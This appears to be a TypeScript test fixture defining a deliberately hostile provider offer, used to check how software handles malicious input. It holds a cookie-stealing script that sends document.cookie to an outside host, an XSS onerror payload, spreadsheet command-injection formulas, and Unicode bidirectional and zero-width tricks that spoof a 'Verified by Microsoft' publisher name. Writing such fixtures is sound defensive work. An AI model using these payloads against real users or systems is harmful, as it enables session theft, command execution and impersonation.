import { guidOf } from './guid.ts';
import type { Offer } from './offers.ts';
import { providerPrincipals } from './people.ts';
import { roleId } from './roleCatalog.ts';
import { proseware } from './tenants.ts';

/** Turns the direction of text, so that what is read is not what is there. Unicode: bidirectional override. */
const rightToLeft = '\u202e';
const popDirection = '\u202c';

/** Looks like a publisher, and is one; the zero-width characters hide that it is not the well-known one. */
export const hostilePublisher = `North\u200bwind\u2060 Managed Services${rightToLeft}tfosorciM yb deifireV${popDirection}`;

const longText = 'This description goes on and on, as nobody has ever told its author to stop. '.repeat(140);

/**
 * Everything a provider may write, written by one who means harm: markup, script, formulas for spreadsheets, control and
 * bidirectional characters, a lone surrogate, far too much text, a role nobody knows, a role that Azure no longer allows.
 */
export const hostileOffer: Offer = {
  managedByTenantId: proseware.id,
  name: `=cmd|' /C calc'!A0 <img src=x onerror="alert(1)"> ${rightToLeft}reffO${popDirection}`,
  description: `<script>fetch("https://proseware.example/" + document.cookie)</script>\u0000\u0007\r\n"quoted", \ud83d ${longText}`,
  plan: { publisher: 'proseware', product: 'total_care-preview', name: 'all-in', version: '10.2.9' },
  authorizations: [
    {
      principalId: providerPrincipals.proseware.id,
      principalIdDisplayName: `@SUM(1+1)*cmd|' /C calc'!A0`,
      roleDefinitionId: guidOf('role/nobody-knows-this-one'),
    },
    {
      principalId: providerPrincipals.proseware.id.toUpperCase(),
      principalIdDisplayName: '<b>Contoso</b> Helpdesk\t+49 (0) 123',
      roleDefinitionId: roleId('Contributor').toUpperCase(),
    },
    { principalId: guidOf('principal/nameless'), roleDefinitionId: roleId('Log Analytics Contributor') },
  ],
  // A just-in-time authorization without any policy: no second factor, no approver, the longest time.
  eligibleAuthorizations: [{ principalId: guidOf('principal/nameless'), roleDefinitionId: roleId('Security Admin') }],
};
